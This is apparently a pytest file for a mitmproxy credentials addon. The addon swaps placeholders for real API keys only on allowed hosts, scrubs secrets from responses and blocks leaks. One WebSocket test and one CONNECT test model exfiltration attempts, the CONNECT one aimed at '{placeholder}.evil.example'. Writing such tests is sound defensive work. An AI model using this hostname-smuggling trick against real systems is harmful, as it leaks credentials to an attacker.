"""The credentials addon on mitmproxy test flows: destination checks, injection, restore,
response scrubbing (buffered, encoded and streamed), WebSocket and CONNECT, audit mode."""

from __future__ import annotations

import base64
import gzip
import textwrap

from mitmproxy import http
from mitmproxy.test import tflow, tutils

from addons.credentials import Credentials
from addons.flowrecord import existing_record
from addons.guard import FailClosed
from addons.limits import Limits
from egress.audit import AuditLog
from egress.policy import compile_policy, parse_policy
from egress.redact import KnownSecrets
from egress.runtime import FixedPolicy, Runtime

KEY = "real-key-0123456789abcdef0123"
OAUTH = "real-oauth-abcdefabcdef0123456"

POLICY = """
    mode: {mode}
    hosts:
      allow:
        - hosts: [api.example.com, other.example.com]
    credentials:
      - name: key
        host: api.example.com
        header: "x-api-key: {{secret}}"
        add_if_missing: false
        source: {{env: K}}
        placeholder: {{env: KEY}}
      - name: oauth
        host: api.example.com
        header: "Authorization: Bearer {{secret}}"
        source: {{env: O}}
        placeholder: {{env: OAUTH}}
"""


def setup(mode: str = "enforce") -> tuple[Credentials, Runtime]:
    compiled = compile_policy(parse_policy(textwrap.dedent(POLICY.format(mode=mode))), "p")
    known = KnownSecrets()
    runtime = Runtime("b1", FixedPolicy(compiled), AuditLog(None, known), known)
    values = {"K": KEY, "O": OAUTH}
    runtime.credentials.load(compiled.policy.credentials, lambda s: values[s.env or ""])
    return Credentials(runtime, FailClosed(runtime)), runtime


def flow(host: str = "api.example.com", sni: str | None = "api.example.com",
         headers: list[tuple[bytes, bytes]] | None = None, path: str = "/v1/messages",
         content: bytes = b"") -> http.HTTPFlow:
    f = tflow.tflow()
    f.request = tutils.treq(host=host, port=443, scheme=b"https", path=path.encode(),
                            headers=http.Headers([(b"host", host.encode()), *(headers or [])]),
                            content=content)
    f.server_conn.address = (host, 443)
    f.client_conn.sni = sni
    return f


def finding_rules(f: http.HTTPFlow) -> list[str]:
    rec = existing_record(f)
    return [x.rule for x in rec.findings] if rec else []


def test_injects_only_when_every_name_agrees():
    addon, rt = setup()
    ph = rt.credentials.placeholders()["oauth"]
    ok = flow(headers=[(b"authorization", f"Bearer {ph}".encode())])
    addon.request(ok)
    assert ok.request.headers["authorization"] == f"Bearer {OAUTH}" and ok.response is None
    assert existing_record(ok).injected == ["oauth"]  # type: ignore[union-attr]
    # SNI names another host: no injection, and the placeholder may not leave
    for bad in (flow(sni="other.example.com", headers=[(b"authorization", f"Bearer {ph}".encode())]),
                flow(sni=None, headers=[(b"authorization", f"Bearer {ph}".encode())])):
        addon.request(bad)
        assert bad.response is not None and bad.response.status_code == 403
        assert finding_rules(bad) == ["placeholder-exfiltration"]
        assert OAUTH not in str(bad.request.headers)
    # nothing sent: the proxy adds the credential (but not the `add_if_missing: false` one)
    bare = flow()
    addon.request(bare)
    assert bare.request.headers["authorization"] == f"Bearer {OAUTH}"
    assert "x-api-key" not in bare.request.headers


def test_sibling_credentials_on_one_host_do_not_override_each_other():
    addon, rt = setup()
    key_ph = rt.credentials.placeholders()["key"]
    # a newer SDK sends the API key as a Bearer token: it stays the API key
    f = flow(headers=[(b"authorization", f"Bearer {key_ph}".encode())])
    addon.request(f)
    assert f.request.headers["authorization"] == f"Bearer {KEY}"
    assert finding_rules(f) == []


def test_the_kept_request_gets_the_placeholder_back_and_the_response_is_scrubbed():
    addon, rt = setup()
    ph = rt.credentials.placeholders()["oauth"]
    f = flow(headers=[(b"authorization", f"Bearer {ph}".encode())])
    addon.request(f)
    f.response = tutils.tresp(headers=http.Headers([(b"content-type", b"application/json"),
                                                    (b"x-echo", KEY.encode())]),
                              content=f'{{"auth": "Bearer {OAUTH}"}}'.encode())
    addon.responseheaders(f)
    assert f.request.headers["authorization"] == f"Bearer {ph}"
    assert f.response.headers["x-echo"] == rt.credentials.placeholders()["key"]
    addon.response(f)
    assert f.response.content == f'{{"auth": "Bearer {ph}"}}'.encode()


def test_encoded_responses_are_decoded_to_be_scrubbed():
    addon, rt = setup()
    f = flow()
    addon.request(f)
    body = gzip.compress(b"token=" + base64.b64encode(OAUTH.encode()))
    f.response = tutils.tresp(headers=http.Headers([(b"content-encoding", b"gzip")]), content=b"")
    f.response.raw_content = body
    addon.responseheaders(f)
    addon.response(f)
    ph = rt.credentials.placeholders()["oauth"]
    assert f.response.content == b"token=" + base64.b64encode(ph.encode())
    corrupt = flow()
    corrupt.response = tutils.tresp(headers=http.Headers([(b"content-encoding", b"gzip")]), content=b"")
    corrupt.response.raw_content = b"not gzip at all"
    addon.response(corrupt)
    assert corrupt.response.status_code == 502
    assert finding_rules(corrupt) == ["response-not-scrubbable"]


def test_event_streams_stay_streamed_and_are_scrubbed_across_chunks():
    addon, rt = setup()
    f = flow()
    f.response = tutils.tresp(headers=http.Headers([(b"content-type", b"text/event-stream")]),
                              content=None)
    Limits(rt).responseheaders(f)  # streams it: the chain's order
    addon.responseheaders(f)
    stream = f.response.stream
    assert callable(stream)
    event = f"data: {{\"k\": \"{OAUTH}\"}}\n\n".encode()
    out: list[bytes] = []
    for part in (event[:20], event[20:25], event[25:]):
        got = stream(part)
        chunks = [got] if isinstance(got, bytes) else list(got)
        assert b"" not in chunks  # an empty chunk would end the response mid-stream
        out.extend(chunks)
    end = stream(b"")
    out.extend([end] if isinstance(end, bytes) else list(end))
    ph = rt.credentials.placeholders()["oauth"]
    assert b"".join(out) == f"data: {{\"k\": \"{ph}\"}}\n\n".encode()
    # responses from other hosts are left alone
    other = flow(host="other.example.com", sni="other.example.com")
    other.response = tutils.tresp(headers=http.Headers([(b"content-type", b"text/event-stream")]))
    Limits(rt).responseheaders(other)
    addon.responseheaders(other)
    passed = other.response.stream
    assert callable(passed) and list(passed(event)) == [event]


def test_placeholders_in_websocket_messages_and_connect_targets_are_blocked():
    addon, rt = setup()
    ph = rt.credentials.placeholders()["oauth"]
    ws = tflow.twebsocketflow()
    ws.websocket.messages[-1].from_client = True  # type: ignore[union-attr]
    ws.websocket.messages[-1].content = f"hello {ph}".encode()  # type: ignore[union-attr]
    addon.websocket_message(ws)
    assert ws.websocket.messages[-1].dropped  # type: ignore[union-attr]
    assert finding_rules(ws) == ["placeholder-exfiltration"]
    connect = tflow.tflow()
    connect.request = tutils.treq(method=b"CONNECT", host=f"{ph}.evil.example", port=443, path=b"")
    addon.http_connect(connect)
    assert connect.response is not None and connect.response.status_code == 403


def test_audit_mode_reports_but_does_not_block():
    addon, rt = setup("audit")
    ph = rt.credentials.placeholders()["oauth"]
    f = flow(host="other.example.com", sni="other.example.com",
             headers=[(b"authorization", f"Bearer {ph}".encode())])
    addon.request(f)
    assert f.response is None and finding_rules(f) == ["placeholder-exfiltration"]
    assert f.request.headers["authorization"] == f"Bearer {ph}"
